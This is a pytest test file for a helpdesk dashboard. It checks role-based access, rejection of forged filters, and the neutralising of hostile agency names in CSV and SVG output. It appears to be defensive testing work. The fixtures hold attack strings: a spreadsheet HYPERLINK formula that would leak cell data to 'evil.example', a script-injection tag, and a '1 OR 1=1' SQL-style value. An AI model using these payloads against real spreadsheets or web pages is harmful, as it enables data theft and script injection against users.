"""Who may open which dashboard and its CSV; forged filters; CSV and SVG that user data cannot
subvert."""

import csv
import io

import pytest

from helpdesk.lib.csv_export import safe_cell
from tests.factories import AgencyFactory, OfficeFactory
from tests.helpdesk.dashboards.conftest import at, make_ticket

pytestmark = pytest.mark.django_db

PAGES = ["/dashboard/", "/dashboard/export.csv", "/dashboard/mis/", "/dashboard/mis/export.csv"]


@pytest.mark.parametrize("url", PAGES)
def test_anonymous_visitors_are_sent_to_sign_in(client, world, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("who", ["alice", "pat", "otto"])
@pytest.mark.parametrize("url", PAGES)
def test_agency_users_and_local_experts_are_refused(client, world, who, url):
    client.force_login(world.user(who))
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("who", ["hannah", "ada"])
@pytest.mark.parametrize("url", PAGES)
def test_help_desk_staff_and_administrators_open_every_page(client, world, who, url):
    client.force_login(world.user(who))
    assert client.get(url).status_code == 200


def test_mis_staff_see_only_the_mis_dashboard(client, world, tickets):
    client.force_login(world.mike)
    assert client.get("/dashboard/").status_code == 403
    assert client.get("/dashboard/export.csv").status_code == 403
    page = client.get("/dashboard/mis/")
    assert page.status_code == 200
    keys = [item.section.key for item in page.context["sections"]]
    assert keys == ["mis"]
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/mis/export.csv").content.decode())))
    assert {row[0] for row in rows[1:]} == {"With MIS"}


@pytest.mark.parametrize(
    ("who", "link"),
    [("hannah", "/dashboard/"), ("ada", "/dashboard/"), ("mike", "/dashboard/mis/")],
)
def test_the_navigation_offers_the_dashboard_to_state_staff(client, world, who, link):
    client.force_login(world.user(who))
    assert ("Dashboard", link) in client.get("/").context["nav_links"]


def test_the_navigation_offers_no_dashboard_to_local_experts(client, world):
    client.force_login(world.pat.user)
    assert "Dashboard" not in [label for label, _ in client.get("/").context["nav_links"]]


@pytest.mark.parametrize(
    "query",
    [
        {"start": "2026-13-45"},
        {"start": "2026-11-10", "end": "2026-11-01"},
        {"start": "2000-01-01", "end": "2026-11-18"},
        {"agency": "999999"},
        {"agency": "1 OR 1=1"},
        {"system": "<script>"},
    ],
)
def test_forged_filters_give_an_error_and_the_default_range(client, world, tickets, query):
    client.force_login(world.hannah)
    response = client.get("/dashboard/", query)
    assert response.status_code == 200
    assert response.context["form"].errors
    filters = response.context["filters"]
    assert (filters.start.isoformat(), filters.end.isoformat()) == ("2026-08-31", "2026-11-18")
    assert filters.agency is None
    assert filters.system == ""
    assert 'role="alert"' in response.content.decode()
    assert client.get("/dashboard/export.csv", query).status_code == 200


@pytest.fixture
def hostile_agencies(world, frozen_now):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "<script>alert(1)</script>"]
    for i, name in enumerate(names):
        office = OfficeFactory(agency=AgencyFactory(name=name, code=f"hostile-{i}"))
        make_ticket(office, "submitted", at(11, 16))
    return names


def test_the_csv_defuses_formulas_in_agency_names(client, world, hostile_agencies):
    client.force_login(world.hannah)
    response = client.get("/dashboard/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["section", "table", "row", "column", "value"]
    agency_rows = [row for row in rows if row[1] == "Top agencies"]
    labels = {row[2] for row in agency_rows}
    assert "'" + hostile_agencies[0] in labels
    assert not any(row[2].startswith("=") for row in rows)
    weekly = [row for row in rows if row[1] == "Tickets opened and resolved per week"]
    assert len(weekly) == 12 * 2


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Plain name", "Plain name"),
        (12, "12"),
        (None, ""),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_agency_names_are_inert_in_the_svg_and_the_table(client, world, hostile_agencies):
    client.force_login(world.hannah)
    page = client.get("/dashboard/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    svg = page[
        page.index('id="chart-top_agencies"') : page.index(
            "</svg>", page.index('id="chart-top_agencies"')
        )
    ]
    assert "&lt;script&gt;" in svg
    assert "<script" not in svg


def test_the_mis_page_reports_a_forged_filter_too(client, world, tickets):
    client.force_login(world.mike)
    response = client.get("/dashboard/mis/", {"start": "nonsense", "system": "ccts"})
    assert response.status_code == 200
    assert response.context["filters"].system == ""
    assert "These filters are not valid" in response.content.decode()


def test_the_csv_follows_the_filters(client, world, tickets):
    client.force_login(world.hannah)
    response = client.get("/dashboard/export.csv", {"agency": world.office.agency.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    agencies = [row for row in rows if row[1] == "Top agencies"]
    assert agencies == [
        ["Tickets", "Top agencies", "Northern Lights CCR&R", "Tickets opened", "10"]
    ]
    by_state = {row[2]: row[4] for row in rows if row[1] == "Open tickets by state"}
    assert by_state["In progress at the help desk"] == "1"
